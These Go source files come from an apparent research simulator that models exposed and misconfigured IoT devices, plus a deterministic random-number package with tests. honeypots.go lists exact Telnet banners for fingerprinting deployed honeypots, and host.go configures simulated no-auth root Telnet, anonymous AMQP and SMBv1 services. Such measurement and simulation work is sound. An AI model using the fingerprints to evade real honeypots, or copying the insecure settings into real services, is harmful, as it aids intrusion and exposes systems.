	ProtoTR069: 20000000.0 / (1 << 32),
	ProtoSMB:   1000000.0 / (1 << 32),
}

// Extension class shares over exposed hosts.
var extensionShares = map[Protocol][]classShare{
	ProtoTR069: {{TR069NoAuth, 0.31}},
	ProtoSMB:   {{SMBv1Enabled, 0.42}},
}

// ExtensionSpec derives the device spec for an extension protocol, the
// analogue of Spec for the future-work scan.
func (u *Universe) ExtensionSpec(ip netsim.IPv4, p Protocol) (DeviceSpec, bool) {
	if !u.cfg.Prefix.Contains(ip) {
		return DeviceSpec{}, false
	}
	density, known := extensionDensity[p]
	if !known {
		return DeviceSpec{}, false
	}
	return u.extSpecFrom(ip, p, prng.HashString("ext-"+string(p)), clampDensity(density*u.cfg.DensityBoost))
}

// extSpecFrom is ExtensionSpec with the protocol hash and boost-applied
// density already known (the Host fast path reads them from the exposure
// table).
func (u *Universe) extSpecFrom(ip netsim.IPv4, p Protocol, ph uint64, density float64) (DeviceSpec, bool) {
	h := u.src.Hash64(labelExposed, uint64(ip), ph)
	if float64(h>>11)/(1<<53) >= density {
		return DeviceSpec{}, false
	}
	spec := DeviceSpec{IP: ip, Protocol: p}
	cls := prng.New(u.src.Hash64(labelClass, uint64(ip), ph))
	roll := cls.Float64()
	spec.Misconfig = MisconfigNone
	for _, cs := range extensionShares[p] {
		if roll < cs.share {
			spec.Misconfig = cs.class
			break
		}
		roll -= cs.share
	}
	return spec, true
}

// ExpectedExtensionExposed mirrors ExpectedExposed for extension protocols.
func (u *Universe) ExpectedExtensionExposed(p Protocol) float64 {
	return extensionDensity[p] * u.cfg.DensityBoost * float64(u.cfg.Prefix.Size())
}
