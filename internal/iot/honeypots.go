package iot

import (
	"context"

	"openhire/internal/netsim"
	"openhire/internal/prng"
)

// HoneypotFamily is one of the deployed-honeypot products whose static
// Telnet banners the paper fingerprints (Table 6). Banner is the exact byte
// sequence the product volunteers on connect; PaperCount is the number of
// instances the paper detected in the wild.
type HoneypotFamily struct {
	Name       string
	Banner     []byte
	PaperCount int
}

// HoneypotFamilies reproduces Table 6. The banner bytes embed the Telnet
// IAC negotiation quirks that make each family identifiable.
var HoneypotFamilies = []HoneypotFamily{
	{Name: "HoneyPy", Banner: []byte("Debian GNU/Linux 7\r\nLogin: "), PaperCount: 27},
	{Name: "Cowrie", Banner: []byte("\xff\xfd\x1flogin: "), PaperCount: 3228},
	{Name: "MTPot", Banner: []byte("\xff\xfb\x01\xff\xfd\x18\r\nlogin: "), PaperCount: 194},
	{Name: "Telnet IoT Honeypot", Banner: []byte("\xff\xfd\x01Login: Password: \r\nWelcome to EmbyLinux 3.13.0-24-generic\r\n # "), PaperCount: 211},
	{Name: "Conpot", Banner: []byte("Connected to [00:13:EA:00:00:00]\r\n"), PaperCount: 216},
	{Name: "Kippo", Banner: []byte("SSH-2.0-OpenSSH_5.1p1 Debian-5\r\n"), PaperCount: 47},
	{Name: "Kako", Banner: []byte("BusyBox v1.19.3 (2013-11-01 10:10:26 CST) built-in shell (ash)\r\nlogin: "), PaperCount: 16},
	{Name: "Hontel", Banner: []byte("BusyBox v1.18.4 (2012-04-17 18:58:31 CST) built-in shell (ash)\r\nlogin: "), PaperCount: 12},
	{Name: "Anglerfish", Banner: []byte("[root@LocalHost tmp]$ "), PaperCount: 4241},
}

// PaperHoneypotTotal is the Table 6 total the paper filtered out.
const PaperHoneypotTotal = 8192

// honeypotDensity is the probability a random address hosts a wild honeypot
// (Table 6 total over the IPv4 space).
const honeypotDensity = float64(PaperHoneypotTotal) / (1 << 32)

var labelHoneypot = prng.HashString("iot-honeypot")

// WildHoneypot reports whether ip hosts a wild (Internet-deployed) honeypot
// in this universe, and which family. Wild honeypots take precedence over
// devices: an address is either a honeypot or a device, never both.
func (u *Universe) WildHoneypot(ip netsim.IPv4) (HoneypotFamily, bool) {
	if !u.cfg.Prefix.Contains(ip) {
		return HoneypotFamily{}, false
	}
	boost := u.cfg.DensityBoost
	if u.cfg.HoneypotBoost > 0 {
		boost = u.cfg.HoneypotBoost
	}
	h := u.src.Hash64(labelHoneypot, uint64(ip))
	if float64(h>>11)/(1<<53) >= honeypotDensity*boost {
		return HoneypotFamily{}, false
	}
	// Family choice weighted by Table 6 counts.
	pick := prng.New(u.src.Hash64(labelHoneypot, uint64(ip), 7))
	weights := make([]float64, len(HoneypotFamilies))
	for i, f := range HoneypotFamilies {
		weights[i] = float64(f.PaperCount)
	}
	return HoneypotFamilies[pick.WeightedChoice(weights)], true
}

// wildHoneypotHost serves the family's static banner on Telnet and accepts
// (and ignores) login attempts, like the low-interaction originals.
type wildHoneypotHost struct {
	family HoneypotFamily
}

// StreamService implements netsim.Host.
func (h wildHoneypotHost) StreamService(port uint16) netsim.StreamHandler {
	if port != 23 {
		return nil
	}
	return netsim.StreamHandlerFunc(func(_ context.Context, conn *netsim.ServiceConn) {
		_, _ = conn.Write(h.family.Banner)
		// Consume a handful of input lines, answering nothing useful —
		// the "lack of simulation" trait fingerprinting exploits.
		buf := make([]byte, 256)
		for i := 0; i < 4; i++ {
			if _, err := conn.Read(buf); err != nil {
				return
			}
			_, _ = conn.Write([]byte("\r\n"))
		}
	})
}

// DatagramService implements netsim.Host.
func (wildHoneypotHost) DatagramService(uint16) netsim.DatagramHandler { return nil }
