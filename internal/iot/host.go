package iot

import (
	"fmt"

	"openhire/internal/netsim"
	"openhire/internal/protocols/amqp"
	"openhire/internal/protocols/coap"
	"openhire/internal/protocols/mqtt"
	"openhire/internal/protocols/smb"
	"openhire/internal/protocols/telnet"
	"openhire/internal/protocols/tr069"
	"openhire/internal/protocols/upnp"
	"openhire/internal/protocols/xmpp"
)

// deviceHost assembles protocol servers for the specs an address exposes.
// It implements netsim.Host.
type deviceHost struct {
	u     *Universe
	ip    netsim.IPv4
	specs map[Protocol]DeviceSpec
	ports map[uint16]Protocol
}

func newDeviceHost(u *Universe, ip netsim.IPv4, specs []DeviceSpec) *deviceHost {
	h := &deviceHost{
		u:     u,
		ip:    ip,
		specs: make(map[Protocol]DeviceSpec, len(specs)),
		ports: make(map[uint16]Protocol, len(specs)),
	}
	for _, s := range specs {
		h.specs[s.Protocol] = s
		port := s.Protocol.DefaultPort()
		if s.Protocol == ProtoTelnet {
			port = u.TelnetPort(ip)
		}
		h.ports[port] = s.Protocol
	}
	return h
}

// StreamService implements netsim.Host.
func (h *deviceHost) StreamService(port uint16) netsim.StreamHandler {
	p, ok := h.ports[port]
	if !ok || p.Transport() != netsim.TCP {
		return nil
	}
	spec := h.specs[p]
	switch p {
	case ProtoTelnet:
		return telnet.NewServer(TelnetConfig(spec))
	case ProtoMQTT:
		return MQTTBroker(spec)
	case ProtoAMQP:
		return amqp.NewServer(AMQPConfig(spec))
	case ProtoXMPP:
		return xmpp.NewServer(XMPPConfig(spec))
	case ProtoTR069:
		return tr069.NewServer(TR069Config(spec))
	case ProtoSMB:
		return smb.NewServer(SMBConfig(spec))
	default:
		return nil
	}
}

// DatagramService implements netsim.Host.
func (h *deviceHost) DatagramService(port uint16) netsim.DatagramHandler {
	p, ok := h.ports[port]
	if !ok || p.Transport() != netsim.UDP {
		return nil
	}
	spec := h.specs[p]
	switch p {
	case ProtoCoAP:
		return coap.NewServer(CoAPConfig(spec))
	case ProtoUPnP:
		return upnp.NewResponder(UPnPConfig(spec))
	default:
		return nil
	}
}

// TelnetConfig derives the Telnet server configuration for a spec. The
// banner and prompt bytes are what the scan's classifier matches (Table 2).
func TelnetConfig(spec DeviceSpec) telnet.Config {
	cfg := telnet.Config{
		PreLoginBanner:   spec.Model.TelnetBanner,
		NegotiateOptions: true,
		Hostname:         spec.Model.Name,
	}
	switch spec.Misconfig {
	case TelnetNoAuthRoot:
		cfg.Auth = telnet.AuthNoneRoot
		cfg.ShellPrompt = rootPrompt(spec)
	case TelnetNoAuth:
		cfg.Auth = telnet.AuthNone
		cfg.ShellPrompt = "$ "
	default:
		cfg.Auth = telnet.AuthLogin
		cfg.Credentials = map[string]string{spec.Username: spec.Password}
		cfg.ShellPrompt = spec.Model.TelnetPrompt
		if cfg.ShellPrompt == "" {
			cfg.ShellPrompt = "$ "
		}
	}
	return cfg
}

func rootPrompt(spec DeviceSpec) string {
	if spec.Model.TelnetPrompt != "" && spec.Model.TelnetPrompt != "$ " {
		return spec.Model.TelnetPrompt
	}
	return fmt.Sprintf("root@device-%08x:~$ ", uint32(spec.IP))
}

// MQTTBroker derives the broker for a spec, pre-seeding the identifying
// retained topic from the catalog.
func MQTTBroker(spec DeviceSpec) *mqtt.Broker {
	b := mqtt.NewBroker(mqtt.BrokerConfig{
		RequireAuth: spec.Misconfig != MQTTNoAuth,
		Credentials: map[string]string{spec.Username: spec.Password},
	})
	if spec.Model.MQTTTopic != "" {
		b.Retain(spec.Model.MQTTTopic, []byte("on"))
	}
	return b
}

// AMQPConfig derives the AMQP server configuration. Misconfigured brokers
// run the Table 2 vulnerable versions and accept anonymous logins.
func AMQPConfig(spec DeviceSpec) amqp.ServerConfig {
	if spec.Misconfig == AMQPNoAuth {
		version := "2.7.1"
		if uint32(spec.IP)%2 == 0 {
			version = "2.8.4"
		}
		return amqp.ServerConfig{
			Properties: amqp.ServerProperties{
				Product: "RabbitMQ", Version: version, Platform: "Erlang/R14B04",
				Mechanisms: []string{"PLAIN", "AMQPLAIN", "ANONYMOUS"},
			},
		}
	}
	return amqp.ServerConfig{
		Properties: amqp.ServerProperties{
			Product: "RabbitMQ", Version: "3.8.9", Platform: "Erlang/OTP 23",
			Mechanisms: []string{"PLAIN", "AMQPLAIN"},
		},
		RequireAuth: true,
		Credentials: map[string]string{spec.Username: spec.Password},
	}
}

// XMPPConfig derives the XMPP server configuration per the Table 2 classes.
func XMPPConfig(spec DeviceSpec) xmpp.ServerConfig {
	domain := fmt.Sprintf("xmpp-%08x.device.local", uint32(spec.IP))
	switch spec.Misconfig {
	case XMPPAnonymous:
		return xmpp.ServerConfig{
			Features: xmpp.Features{
				Mechanisms: []string{"PLAIN", "ANONYMOUS"}, Domain: domain,
			},
			AllowAnonymous: true,
			Credentials:    map[string]string{spec.Username: spec.Password},
		}
	case XMPPNoEncryption:
		return xmpp.ServerConfig{
			Features: xmpp.Features{
				Mechanisms: []string{"PLAIN"}, Domain: domain,
			},
			Credentials: map[string]string{spec.Username: spec.Password},
		}
	default:
		return xmpp.ServerConfig{
			Features: xmpp.Features{
				Mechanisms: []string{"SCRAM-SHA-1"}, RequireTLS: true, Domain: domain,
			},
			Credentials: map[string]string{spec.Username: spec.Password},
		}
	}
}

// CoAPConfig derives the CoAP server configuration. The banner prefixes are
// the Table 3 indicators the classifier matches.
func CoAPConfig(spec DeviceSpec) coap.ServerConfig {
	resources := coap.DefaultSensorResources(spec.Model.Name)
	if spec.Model.CoAPResource != "" {
		resources = append(resources, coap.Resource{
			Path: spec.Model.CoAPResource, Type: "oic.wk.d",
			Value: []byte(spec.Model.Name), Writable: false,
		})
	}
	switch spec.Misconfig {
	case CoAPNoAuthAdmin:
		return coap.ServerConfig{Policy: coap.AccessAdmin, Banner: "220-Admin ", Resources: resources}
	case CoAPNoAuth:
		banner := "x1C "
		if uint32(spec.IP)%2 == 0 {
			banner = "220 "
		}
		return coap.ServerConfig{Policy: coap.AccessOpen, Banner: banner, Resources: resources}
	case CoAPReflector:
		return coap.ServerConfig{Policy: coap.AccessOpen, Resources: resources}
	default:
		return coap.ServerConfig{Policy: coap.AccessAuthenticated, Resources: resources}
	}
}

// TR069Config derives the CWMP connection-request endpoint configuration
// for the extension scan (Section 6 future work).
func TR069Config(spec DeviceSpec) tr069.Config {
	banner := tr069.ServerBanners[int(uint32(spec.IP))%len(tr069.ServerBanners)]
	return tr069.Config{
		ServerBanner: banner,
		RequireAuth:  spec.Misconfig != TR069NoAuth,
	}
}

// SMBConfig derives the SMB endpoint configuration for the extension scan:
// SMBv1-enabled hosts negotiate the ancient dialect, patched hosts offer
// only SMB2+.
func SMBConfig(spec DeviceSpec) smb.Config {
	dialect := "SMB 2.002"
	if spec.Misconfig == SMBv1Enabled {
		dialect = "NT LM 0.12"
	}
	return smb.Config{Dialect: dialect}
}

// UPnPConfig derives the SSDP responder configuration. Only reflector-class
// devices answer Internet-side discovery with a full response; configured
// devices answer with nothing usable (they are "exposed" in the sense of
// the port being open, but the scan's response classifier sees no
// disclosure).
func UPnPConfig(spec DeviceSpec) upnp.ResponderConfig {
	d := upnp.Device{
		Server:       spec.Model.UPnPServer,
		UUID:         fmt.Sprintf("5a34308c-1a2c-4546-ac5d-%012x", uint64(spec.IP)),
		FriendlyName: spec.Model.UPnPFriendly,
		ModelName:    spec.Model.UPnPModel,
		Manufacturer: spec.Model.UPnPManuf,
		DeviceType:   "urn:schemas-upnp-org:device:Basic:1",
		Location:     fmt.Sprintf("http://192.168.0.1:%d/rootDesc.xml", 16000+uint32(spec.IP)%4000),
	}
	return upnp.ResponderConfig{
		Device:         d,
		AnswerInternet: spec.Misconfig == UPnPReflector,
	}
}
