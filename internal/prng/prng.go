// Package prng provides a deterministic, splittable pseudo-random number
// generator and sampling helpers used by every simulation substrate in this
// repository.
//
// Reproducibility is a hard requirement: the simulated Internet population,
// the attack month, and the telescope traffic must be byte-identical across
// runs for a given seed so that experiments can be compared against the
// paper's published tables. The generator is a SplitMix64 core (Steele et
// al., "Fast Splittable Pseudorandom Number Generators") which passes BigCrush
// for the bit widths we consume and — crucially — supports cheap derivation
// of independent streams, letting us compute per-IP host configurations
// lazily without materializing billions of hosts.
package prng

import (
	"math"
	"sync"
)

// golden is the 64-bit golden-ratio increment used by SplitMix64.
const golden = 0x9e3779b97f4a7c15

// Source is a deterministic SplitMix64 random source. The zero value is a
// valid generator seeded with 0; use New or Derive for independent streams.
type Source struct {
	seed  uint64 // immutable: the root of Derive/Hash64 streams
	state uint64 // advanced by Uint64
}

// New returns a Source seeded with seed.
func New(seed uint64) *Source {
	return &Source{seed: seed, state: seed}
}

// Reseed resets the source in place so its stream is identical to New(seed).
// Hot loops that consume one short-lived stream per work item (the attack
// replay runs one per event) reuse a single Source this way instead of
// allocating a fresh generator each time.
func (s *Source) Reseed(seed uint64) {
	s.seed = seed
	s.state = seed
}

// State returns the source's stream position for checkpointing. Together
// with the seed (which callers already know — it is part of the run config)
// it fully determines the remaining stream: SetState(State()) is a no-op.
func (s *Source) State() uint64 { return s.state }

// SetState repositions the stream without touching the seed, so Derive and
// Hash64 children are unaffected. Used on resume to continue a consumed
// stream exactly where a checkpoint left it.
func (s *Source) SetState(state uint64) { s.state = state }

// mix is the SplitMix64 output function.
func mix(z uint64) uint64 {
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// Uint64 returns the next 64 random bits.
func (s *Source) Uint64() uint64 {
	s.state += golden
	return mix(s.state)
}

// Derive returns a new independent Source whose stream is a pure function of
// the parent seed and the label values. Deriving with the same labels always
// yields the same stream, regardless of how much of the parent stream has
// been consumed. This is what makes lazy per-IP host generation possible.
func (s *Source) Derive(labels ...uint64) *Source {
	h := s.seed
	for _, l := range labels {
		h = mix(h ^ (l + golden))
	}
	return &Source{seed: h, state: h}
}

// Hash64 returns a stable 64-bit hash of the labels under this source's seed
// without creating a new Source. It is the allocation-free sibling of Derive
// for one-shot decisions (e.g. "does a host exist at this IP?").
func (s *Source) Hash64(labels ...uint64) uint64 {
	h := s.seed
	for _, l := range labels {
		h = mix(h ^ (l + golden))
	}
	return mix(h + golden)
}

// HashPrefix folds labels into the intermediate chaining value Hash64 would
// carry after the same labels. Callers hashing many values that share a
// common label prefix (the exposure walk hashes every address against every
// protocol) fold the prefix once and finish each hash with Hash64From.
func (s *Source) HashPrefix(labels ...uint64) uint64 {
	h := s.seed
	for _, l := range labels {
		h = mix(h ^ (l + golden))
	}
	return h
}

// Hash64From completes a Hash64 from a HashPrefix chaining value; for any
// split of the label list, Hash64From(HashPrefix(a...), b...) ==
// Hash64(a..., b...).
func Hash64From(h uint64, labels ...uint64) uint64 {
	for _, l := range labels {
		h = mix(h ^ (l + golden))
	}
	return mix(h + golden)
}

// HashString folds a string label into a uint64 suitable for Derive/Hash64.
func HashString(str string) uint64 {
	// FNV-1a 64-bit; stable and stdlib-free of imports.
	const (
		offset = 14695981039346656037
		prime  = 1099511628211
	)
	h := uint64(offset)
	for i := 0; i < len(str); i++ {
		h ^= uint64(str[i])
		h *= prime
	}
	return h
}

// Float64 returns a uniform float64 in [0, 1).
func (s *Source) Float64() float64 {
	return float64(s.Uint64()>>11) / (1 << 53)
}

// Intn returns a uniform int in [0, n). It panics if n <= 0.
func (s *Source) Intn(n int) int {
	if n <= 0 {
		panic("prng: Intn with non-positive n")
	}
	return int(s.Uint64() % uint64(n))
}

// Uint32 returns 32 random bits.
func (s *Source) Uint32() uint32 {
	return uint32(s.Uint64() >> 32)
}

// Bool returns true with probability p.
func (s *Source) Bool(p float64) bool {
	return s.Float64() < p
}

// Exp returns an exponentially distributed float64 with the given mean.
// It is used for inter-arrival times in the attack scheduler.
func (s *Source) Exp(mean float64) float64 {
	u := s.Float64()
	if u <= 0 {
		u = math.SmallestNonzeroFloat64
	}
	return -mean * math.Log(u)
}

// Norm returns a normally distributed float64 (Box–Muller) with the given
// mean and standard deviation.
func (s *Source) Norm(mean, stddev float64) float64 {
	u1 := s.Float64()
	if u1 <= 0 {
		u1 = math.SmallestNonzeroFloat64
	}
	u2 := s.Float64()
	z := math.Sqrt(-2*math.Log(u1)) * math.Cos(2*math.Pi*u2)
	return mean + stddev*z
}

// Poisson returns a Poisson-distributed count with the given mean, using
// Knuth's algorithm for small means and a normal approximation above 30.
func (s *Source) Poisson(mean float64) int {
	if mean <= 0 {
		return 0
	}
	if mean > 30 {
		n := int(s.Norm(mean, math.Sqrt(mean)) + 0.5)
		if n < 0 {
			return 0
		}
		return n
	}
	l := math.Exp(-mean)
	k := 0
	p := 1.0
	for {
		p *= s.Float64()
		if p <= l {
			return k
		}
		k++
	}
}

// Perm returns a random permutation of [0, n).
func (s *Source) Perm(n int) []int {
	p := make([]int, n)
	for i := range p {
		j := s.Intn(i + 1)
		p[i] = p[j]
		p[j] = i
	}
	return p
}

// Shuffle permutes the first n elements using the provided swap function.
func (s *Source) Shuffle(n int, swap func(i, j int)) {
	for i := n - 1; i > 0; i-- {
		j := s.Intn(i + 1)
		swap(i, j)
	}
}

// WeightedChoice selects an index in [0, len(weights)) with probability
// proportional to weights[i]. Zero or negative weights are never selected.
// It panics if the total weight is not positive.
func (s *Source) WeightedChoice(weights []float64) int {
	var total float64
	for _, w := range weights {
		if w > 0 {
			total += w
		}
	}
	if total <= 0 {
		panic("prng: WeightedChoice with non-positive total weight")
	}
	target := s.Float64() * total
	for i, w := range weights {
		if w <= 0 {
			continue
		}
		target -= w
		if target < 0 {
			return i
		}
	}
	// Floating-point slack: fall back to the last positive weight.
	for i := len(weights) - 1; i >= 0; i-- {
		if weights[i] > 0 {
			return i
		}
	}
	panic("prng: unreachable")
}

// Zipf samples from a Zipf distribution over [0, n) with exponent alpha > 0.
// Rank 0 is the most probable outcome. It uses the inverse-CDF over the
// precomputed table when called through a Zipfian, but this convenience
// method recomputes the normalizer and is intended for small n.
func (s *Source) Zipf(n int, alpha float64) int {
	k := zipfKey{n: n, alpha: alpha}
	if z, ok := zipfCache.Load(k); ok {
		return z.(*Zipfian).Sample(s)
	}
	z := NewZipfian(n, alpha)
	zipfCache.Store(k, z)
	return z.Sample(s)
}

// zipfCache memoizes the (deterministic) CDF tables: the campaign hot path
// draws from a handful of fixed (n, alpha) shapes millions of times, and
// rebuilding the table costs n Pow calls plus an allocation per draw.
type zipfKey struct {
	n     int
	alpha float64
}

var zipfCache sync.Map

// Zipfian is a precomputed Zipf sampler over ranks [0, n).
type Zipfian struct {
	cdf []float64
}

// NewZipfian builds a Zipf sampler with n ranks and exponent alpha.
func NewZipfian(n int, alpha float64) *Zipfian {
	if n <= 0 {
		panic("prng: NewZipfian with non-positive n")
	}
	cdf := make([]float64, n)
	var total float64
	for i := 0; i < n; i++ {
		total += 1 / math.Pow(float64(i+1), alpha)
		cdf[i] = total
	}
	for i := range cdf {
		cdf[i] /= total
	}
	return &Zipfian{cdf: cdf}
}

// Sample draws a rank from the distribution using src.
func (z *Zipfian) Sample(src *Source) int {
	u := src.Float64()
	lo, hi := 0, len(z.cdf)-1
	for lo < hi {
		mid := (lo + hi) / 2
		if z.cdf[mid] < u {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	return lo
}

// Alias is a Walker/Vose alias sampler: O(n) to build, O(1) per sample with
// a single Uint64 draw. It replaces the Zipfian binary search on hot paths
// where millions of draws share one distribution (the darknet generator's
// per-source packet skew).
type Alias struct {
	prob  []float64 // acceptance threshold per column
	alias []int32   // fallback rank per column
}

// NewAlias builds an alias sampler over the given weights. Weights must be
// non-negative with a positive total.
func NewAlias(weights []float64) *Alias {
	n := len(weights)
	if n == 0 {
		panic("prng: NewAlias with no weights")
	}
	var total float64
	for _, w := range weights {
		if w < 0 {
			panic("prng: NewAlias with negative weight")
		}
		total += w
	}
	if total <= 0 {
		panic("prng: NewAlias with non-positive total weight")
	}
	a := &Alias{prob: make([]float64, n), alias: make([]int32, n)}
	// Vose's method: split columns into under- and over-full relative to the
	// uniform height, then pair each under-full column with an over-full one.
	scaled := make([]float64, n)
	small := make([]int32, 0, n)
	large := make([]int32, 0, n)
	for i, w := range weights {
		scaled[i] = w * float64(n) / total
		if scaled[i] < 1 {
			small = append(small, int32(i))
		} else {
			large = append(large, int32(i))
		}
	}
	for len(small) > 0 && len(large) > 0 {
		s := small[len(small)-1]
		small = small[:len(small)-1]
		l := large[len(large)-1]
		large = large[:len(large)-1]
		a.prob[s] = scaled[s]
		a.alias[s] = l
		scaled[l] -= 1 - scaled[s]
		if scaled[l] < 1 {
			small = append(small, l)
		} else {
			large = append(large, l)
		}
	}
	for _, i := range large {
		a.prob[i] = 1
	}
	for _, i := range small {
		a.prob[i] = 1 // numerical leftovers
	}
	return a
}

// NewZipfAlias builds an alias sampler over Zipf weights rank^-alpha for
// ranks [0, n). Weights are accumulated multiplicatively — the step ratio
// (1+1/r)^-alpha is expanded as a four-term binomial series once r is large
// enough — so the build costs a handful of multiplies per rank instead of a
// math.Pow call. The truncation error is below 4e-8 per step and sums to
// under 1e-6 across table sizes in the millions, orders of magnitude finer
// than any statistic the generated traffic is read for.
func NewZipfAlias(n int, alpha float64) *Alias {
	if n <= 0 {
		panic("prng: NewZipfAlias with non-positive n")
	}
	c2 := alpha * (alpha + 1) / 2
	c3 := c2 * (alpha + 2) / 3
	c4 := c3 * (alpha + 3) / 4
	weights := make([]float64, n)
	w := 1.0
	weights[0] = 1
	for i := 1; i < n; i++ {
		if i < 32 {
			w = math.Pow(float64(i+1), -alpha) // exact head, where 1/i is large
		} else {
			x := 1 / float64(i)
			w *= 1 + x*(-alpha+x*(c2+x*(-c3+x*c4)))
		}
		weights[i] = w
	}
	return NewAlias(weights)
}

// Sample draws a rank using a single Uint64 from src: the high bits pick a
// column, the low bits flip the biased accept/alias coin.
func (a *Alias) Sample(src *Source) int {
	u := src.Uint64()
	i := int((u >> 32) % uint64(len(a.prob)))
	if float64(uint32(u))/(1<<32) < a.prob[i] {
		return i
	}
	return int(a.alias[i])
}
