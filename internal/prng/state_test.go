package prng

import "testing"

// TestSetStateRoundTrip asserts SetState(State()) is a no-op: a repositioned
// source continues the exact stream the original would have produced, from
// any position.
func TestSetStateRoundTrip(t *testing.T) {
	for _, skip := range []int{0, 1, 17, 4096} {
		a := New(42)
		for i := 0; i < skip; i++ {
			a.Uint64()
		}
		b := New(42)
		b.SetState(a.State())
		for i := 0; i < 256; i++ {
			if va, vb := a.Uint64(), b.Uint64(); va != vb {
				t.Fatalf("skip=%d: streams diverge at draw %d: %x vs %x", skip, i, va, vb)
			}
		}
	}
}

// TestSetStateCrossesSeeds asserts state transplant works across differently
// seeded sources: the state alone, not the construction seed, determines the
// stream — the property the campaign scheduler's resume depends on.
func TestSetStateCrossesSeeds(t *testing.T) {
	a := New(7)
	for i := 0; i < 100; i++ {
		a.Uint64()
	}
	saved := a.State()
	want := make([]uint64, 32)
	for i := range want {
		want[i] = a.Uint64()
	}
	b := New(999) // different seed; SetState must still reposition exactly
	b.SetState(saved)
	for i := range want {
		if got := b.Uint64(); got != want[i] {
			t.Fatalf("draw %d after transplant: %x, want %x", i, got, want[i])
		}
	}
}

// TestDeriveIgnoresPosition asserts Derive is a pure function of the seed and
// labels, unaffected by how far the parent stream has advanced — so replayed
// runs re-derive identical child streams regardless of checkpoint position.
func TestDeriveIgnoresPosition(t *testing.T) {
	fresh := New(7).Derive(3, 9)
	advanced := New(7)
	for i := 0; i < 1000; i++ {
		advanced.Uint64()
	}
	derived := advanced.Derive(3, 9)
	for i := 0; i < 64; i++ {
		if vf, vd := fresh.Uint64(), derived.Uint64(); vf != vd {
			t.Fatalf("derived stream depends on parent position (draw %d: %x vs %x)", i, vf, vd)
		}
	}
}
