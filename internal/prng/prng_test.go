package prng

import (
	"math"
	"testing"
	"testing/quick"
)

func TestDeterminism(t *testing.T) {
	a := New(42)
	b := New(42)
	for i := 0; i < 1000; i++ {
		if got, want := a.Uint64(), b.Uint64(); got != want {
			t.Fatalf("stream diverged at %d: %d != %d", i, got, want)
		}
	}
}

func TestSeedsDiffer(t *testing.T) {
	a := New(1)
	b := New(2)
	same := 0
	for i := 0; i < 100; i++ {
		if a.Uint64() == b.Uint64() {
			same++
		}
	}
	if same > 0 {
		t.Fatalf("different seeds produced %d identical outputs", same)
	}
}

func TestDeriveIndependentOfConsumption(t *testing.T) {
	a := New(7)
	b := New(7)
	for i := 0; i < 50; i++ {
		a.Uint64() // consume some of a's stream
	}
	da := a.Derive(1, 2, 3)
	db := b.Derive(1, 2, 3)
	for i := 0; i < 100; i++ {
		if da.Uint64() != db.Uint64() {
			t.Fatal("Derive depends on parent stream consumption")
		}
	}
}

func TestDeriveLabelsMatter(t *testing.T) {
	s := New(9)
	if s.Derive(1).Uint64() == s.Derive(2).Uint64() {
		t.Fatal("different labels produced identical derived streams")
	}
	if s.Derive(1, 2).Uint64() == s.Derive(2, 1).Uint64() {
		t.Fatal("label order ignored")
	}
}

func TestHash64Stable(t *testing.T) {
	s := New(11)
	h1 := s.Hash64(5, 6)
	s.Uint64()
	h2 := s.Hash64(5, 6)
	if h1 != h2 {
		t.Fatal("Hash64 not stable across stream consumption")
	}
}

func TestHashString(t *testing.T) {
	if HashString("telnet") == HashString("mqtt") {
		t.Fatal("distinct strings hashed equal")
	}
	if HashString("abc") != HashString("abc") {
		t.Fatal("HashString not deterministic")
	}
}

func TestFloat64Range(t *testing.T) {
	if err := quick.Check(func(seed uint64) bool {
		s := New(seed)
		for i := 0; i < 100; i++ {
			f := s.Float64()
			if f < 0 || f >= 1 {
				return false
			}
		}
		return true
	}, nil); err != nil {
		t.Fatal(err)
	}
}

func TestFloat64Mean(t *testing.T) {
	s := New(3)
	var sum float64
	const n = 100000
	for i := 0; i < n; i++ {
		sum += s.Float64()
	}
	mean := sum / n
	if math.Abs(mean-0.5) > 0.01 {
		t.Fatalf("mean %f too far from 0.5", mean)
	}
}

func TestIntnBounds(t *testing.T) {
	s := New(4)
	seen := make(map[int]bool)
	for i := 0; i < 10000; i++ {
		v := s.Intn(7)
		if v < 0 || v >= 7 {
			t.Fatalf("Intn(7) = %d out of range", v)
		}
		seen[v] = true
	}
	if len(seen) != 7 {
		t.Fatalf("Intn(7) produced only %d distinct values", len(seen))
	}
}

func TestIntnPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("Intn(0) did not panic")
		}
	}()
	New(1).Intn(0)
}

func TestBoolProbability(t *testing.T) {
	s := New(5)
	hits := 0
	const n = 100000
	for i := 0; i < n; i++ {
		if s.Bool(0.3) {
			hits++
		}
	}
	p := float64(hits) / n
	if math.Abs(p-0.3) > 0.01 {
		t.Fatalf("Bool(0.3) hit rate %f", p)
	}
}

func TestExpMean(t *testing.T) {
	s := New(6)
	var sum float64
	const n = 200000
	for i := 0; i < n; i++ {
		v := s.Exp(5)
		if v < 0 {
			t.Fatal("Exp returned negative value")
		}
		sum += v
	}
	mean := sum / n
	if math.Abs(mean-5) > 0.1 {
		t.Fatalf("Exp mean %f too far from 5", mean)
	}
}

func TestNormMoments(t *testing.T) {
	s := New(7)
	var sum, sumSq float64
	const n = 200000
	for i := 0; i < n; i++ {
		v := s.Norm(10, 2)
		sum += v
		sumSq += v * v
	}
	mean := sum / n
	variance := sumSq/n - mean*mean
	if math.Abs(mean-10) > 0.05 {
		t.Fatalf("Norm mean %f", mean)
	}
	if math.Abs(math.Sqrt(variance)-2) > 0.05 {
		t.Fatalf("Norm stddev %f", math.Sqrt(variance))
	}
}

func TestPoissonMean(t *testing.T) {
	for _, mean := range []float64{0.5, 3, 12, 80} {
		s := New(uint64(mean * 100))
		var sum int
		const n = 50000
		for i := 0; i < n; i++ {
			sum += s.Poisson(mean)
		}
		got := float64(sum) / n
		if math.Abs(got-mean)/mean > 0.05 {
			t.Fatalf("Poisson(%f) mean %f", mean, got)
		}
	}
}

func TestPoissonZero(t *testing.T) {
	if New(1).Poisson(0) != 0 {
		t.Fatal("Poisson(0) != 0")
	}
	if New(1).Poisson(-3) != 0 {
		t.Fatal("Poisson(-3) != 0")
	}
}

func TestPermIsPermutation(t *testing.T) {
	if err := quick.Check(func(seed uint64) bool {
		s := New(seed)
		p := s.Perm(50)
		seen := make([]bool, 50)
		for _, v := range p {
			if v < 0 || v >= 50 || seen[v] {
				return false
			}
			seen[v] = true
		}
		return true
	}, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

